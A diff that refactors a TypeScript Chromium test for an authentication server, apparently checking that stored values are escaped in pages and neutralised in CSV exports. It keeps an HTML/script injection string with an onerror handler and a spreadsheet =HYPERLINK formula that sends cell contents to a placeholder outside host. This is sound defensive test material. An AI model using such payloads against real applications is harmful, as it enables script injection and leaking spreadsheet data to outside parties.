@@ -1,36 +1,20 @@
-import { findChromium, NO_CHROMIUM, startChromium } from '@gatehouse/testing/chromium';
+import { type Browser, inChromium } from '@gatehouse/testing/chromium';
+import { jsonRequest } from '@gatehouse/testing/json-request';
 import t from 'tap';
 import { startServer } from './clients/set-up.ts';
 
-type Browser = Awaited<ReturnType<typeof startChromium>>;
 type Made = { id: string; client_id: string };
 
 /** Leaves an element or an attribute behind where it becomes markup, though the policy of the pages runs no script of it. */
 const HOSTILE = `"'><x-marked></x-marked><img src=x x-marked onerror="window.marked=1"></title></textarea> x-marked=""`;
 const FORMULA = `=HYPERLINK("https://elsewhere.example/?"&A1)`;
 
-const chromium = findChromium();
-if (chromium === undefined) t.plan(0, NO_CHROMIUM);
-else await inChromium(chromium);
-
-async function inChromium(executable: string): Promise<void> {
+await inChromium(t, async (browser) => {
   t.setTimeout(240_000);
   const { issuer, demo } = await startServer(t);
-  const browser = await startChromium(t, executable);
 
-  async function ask<T = Made>(method: string, path: string, token?: string, body?: unknown, agent = 'test') {
-    const response = await fetch(issuer + path, {
-      method,
-      headers: {
-        'content-type': 'application/json',
-        'user-agent': agent,
-        ...(token && { authorization: `Bearer ${token}` }),
-      },
-      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
-    });
-    const text = await response.text();
-    return { status: response.status, body: (text === '' ? {} : JSON.parse(text)) as T };
-  }
+  const ask = <T = Made>(method: string, path: string, token?: string, body?: unknown, agent = 'test') =>
+    jsonRequest<T>(method, issuer + path, { token, body, headers: { 'user-agent': agent } });
   const login = async ({ username, password }: { username: string; password: string }, agent?: string) =>
     (await ask<{ token: string }>('POST', '/api/v1/auth/login', undefined, { username, password }, agent))
       .body.token;
@@ -181,4 +165,4 @@ async function inChromium(executable: string): Promise<void> {
     t.notMatch(text, /^"?[=+@-]/m);
     t.match(download.suggestedFilename(), /^[\w.-]+\.csv$/);
   });
-}
+});
